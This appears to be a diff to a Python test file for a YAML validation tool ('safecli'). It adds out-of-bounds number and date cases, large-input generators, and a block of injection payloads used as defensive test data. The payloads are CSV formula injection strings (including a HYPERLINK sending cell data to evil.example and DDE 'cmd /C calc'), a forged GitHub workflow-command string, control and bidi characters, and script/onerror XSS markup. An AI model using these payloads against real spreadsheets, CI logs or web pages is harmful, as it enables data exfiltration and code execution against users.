@@ -120,3 +120,89 @@ STANDARD_CASES: list[tuple[str, str, str, int | None, str]] = [
     ("points-zero.yaml", "{id: a.1, text: 条款一, points: 4,", "{id: a.1, text: 条款一, points: 0,", 34, "greater than 0"),
     ("proportional-not-ge.yaml", 'op: ">=", target: 40, per: year, credit: proportional', 'op: "<=", target: 40, per: year, credit: proportional', 47, "proportional works only with op '>='"),
 ]
+
+
+# ---------------------------------------------------------------- numbers and dates beyond bounds
+
+HUGE = "9" * 400
+"""An integer of 400 digits: Python holds it, a float cannot (OverflowError)."""
+
+RECORD_CASES += [
+    ("metric-400-digits.yaml", sub("inspections: 40", f"inspections: {HUGE}"), 11, "a number of 400 digits is beyond what safecli accepts"),
+    ("metric-5000-digits.yaml", sub("inspections: 40", "inspections: " + "9" * 5000), 11, "(5,000 characters) is not a number safecli accepts"),
+    ("deduction-count-400-digits.yaml", sub("  a.3: met", f"  a.3: {{deductions: {{sign: {HUGE}}}}}"), 7, "a number of 400 digits is beyond"),
+    ("employees-400-digits.yaml", sub("employees: 320", f"employees: {HUGE}"), 2, "subject.employees: a number of 400 digits"),
+    ("fatalities-400-digits.yaml", sub("fatalities: 0", f"fatalities: {HUGE}"), 13, "a number of 400 digits"),
+    ("loss-1e400.yaml", sub("fatalities: 0", "fatalities: 0, direct_loss_yuan: 1e400"), 13, "finite number"),
+    ("score-400-digits.yaml", sub("  a.2: met", f"  a.2: {{status: partial, score: {HUGE}}}"), 6, "a number of 400 digits"),
+    ("inspection-year-0001.yaml", sub("date: 2025-05-10", "date: 0001-05-10"), 3, "inspection.date: 0001-05-10 is outside 1949–2100"),
+    ("inspection-year-9999.yaml", sub("date: 2025-05-10", "date: 9999-12-31"), 3, "inspection.date: 9999-12-31 is outside 1949–2100"),
+    ("incident-year-0001.yaml", sub("date: 2025-01-10", "date: 0001-01-10"), 13, "incidents[0].date: 0001-01-10 is outside"),
+    ("finding-due-year-9999.yaml", sub("due: 2025-06-01", "due: 9999-06-01"), 15, "findings[0].due: 9999-06-01 is outside"),
+]
+
+STANDARD_CASES += [
+    ("points-400-digits.yaml", "{id: a.1, text: 条款一, points: 4,", "{id: a.1, text: 条款一, points: " + HUGE + ",", 34, "a number of 400 digits"),
+    ("target-400-digits.yaml", 'op: ">=", target: 40,', 'op: ">=", target: ' + HUGE + ",", 47, "a number of 400 digits"),
+    ("deduction-points-400-digits.yaml", "{id: sign, points: 1,", "{id: sign, points: " + HUGE + ",", 41, "a number of 400 digits"),
+    ("veto-value-400-digits.yaml", 'op: ">=", value: 1}', 'op: ">=", value: ' + HUGE + "}", 27, "a number of 400 digits"),
+]
+
+
+# ---------------------------------------------------------------- big standards and records
+
+
+def big_standard(items: int) -> str:
+    """A standard of `items` check items in one section (a report must stay linear in it)."""
+    lines = [
+        "id: huge",
+        'version: "1"',
+        "subject: enterprise",
+        "title: {zh: 大标准}",
+        "source: x.txt",
+        "scoring_note: {zh: 测试}",
+        "grades:",
+        "  - {id: top, min: 90, label: {zh: 优秀}}",
+        "  - {id: low, min: 0, label: {zh: 不合格}}",
+        "sections:",
+        "  - id: s",
+        "    title: {zh: 唯一部分}",
+        "    items:",
+    ]
+    lines += [f'      - {{id: s.{i}, text: 条款{i}, points: 1, source: "x#{i}"}}' for i in range(1, items + 1)]
+    return "\n".join(lines) + "\n"
+
+
+def big_record(items: int) -> str:
+    """A record of the big standard: every other item unmet, the rest met."""
+    lines = [
+        "standard: huge@1",
+        "subject: {kind: enterprise, id: 914403001922038216, name: 大企业, employees: 10}",
+        "inspection: {date: 2025-05-10}",
+        "responses:",
+    ]
+    lines += [f"  s.{i}: {'unmet' if i % 2 else 'met'}" for i in range(1, items + 1)]
+    return "\n".join(lines) + "\n"
+
+
+# ---------------------------------------------------------------- injection payloads
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+"""Cell contents a spreadsheet would run (OWASP CSV injection)."""
+
+WORKFLOW_FORGERY = "配电箱\n::error file=forged.yaml::forged\n::add-mask::secret%0A::warning::x"
+"""A finding that would forge GitHub workflow commands if a newline reached the log."""
+
+CONTROL_TEXT = "\\e[31m红\\e[0m\\x01\\x08\\x0b\\x1f\\u202e甲乙\\u200b"
+"""YAML escapes for ANSI colour, C0 controls XML forbids, a bidi override, a zero-width space."""
+
+MARKDOWN_TEXT = '<script>alert(1)</script><img src=x onerror=alert(1)>[点我](http://evil.example) ![x](http://evil.example/a.png)'
+"""A unit name that is HTML, a link and an image when pasted raw into Markdown."""
